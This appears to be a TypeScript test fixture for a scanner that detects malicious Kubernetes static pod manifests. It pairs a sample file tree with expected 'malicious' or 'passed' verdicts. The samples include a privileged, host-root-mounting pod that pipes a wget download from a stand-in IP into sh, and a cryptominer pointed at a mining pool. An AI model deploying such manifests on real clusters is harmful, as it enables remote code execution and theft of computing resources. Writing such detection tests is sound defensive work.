import type { Pair } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/etc/kubernetes/manifests/kube-sync.yaml': `apiVersion: v1
kind: Pod
metadata:
  name: kube-sync
spec:
  hostNetwork: true
  containers:
  - name: sync
    image: docker.io/library/alpine:3
    command: ["sh", "-c"]
    args:
    - wget -q -O - http://203.0.113.7/k.sh | sh
    securityContext:
      privileged: true
  volumes:
  - name: host
    hostPath:
      path: /
`,
    '/var/lib/rancher/k3s/server/manifests/m.yaml': `spec:
  containers:
    - image: example/m:1
      command:
        - /m
        - -o
        - pool.supportxmr.com:443
        - --donate-level=1
`,
    // As kubeadm writes it.
    '/etc/kubernetes/manifests/kube-apiserver.yaml': `apiVersion: v1
kind: Pod
spec:
  containers:
  - command:
    - kube-apiserver
    - --advertise-address=10.0.0.10
    - --etcd-servers=https://127.0.0.1:2379
    image: registry.k8s.io/kube-apiserver:v1.31.0
    livenessProbe:
      httpGet:
        path: /livez
        port: 6443
  hostNetwork: true
  volumes:
  - hostPath:
      path: /etc/kubernetes/pki
      type: DirectoryOrCreate
    name: k8s-certs
`,
  },
  blamed: [
    {
      path: '/etc/kubernetes/manifests/kube-sync.yaml',
      line: 10,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1610',
    },
    {
      path: '/var/lib/rancher/k3s/server/manifests/m.yaml',
      line: 4,
      verdict: 'malicious',
      code: 'pool-name',
      attack: 'T1053.007',
    },
  ],
  passed: ['kube-apiserver.yaml'],
};
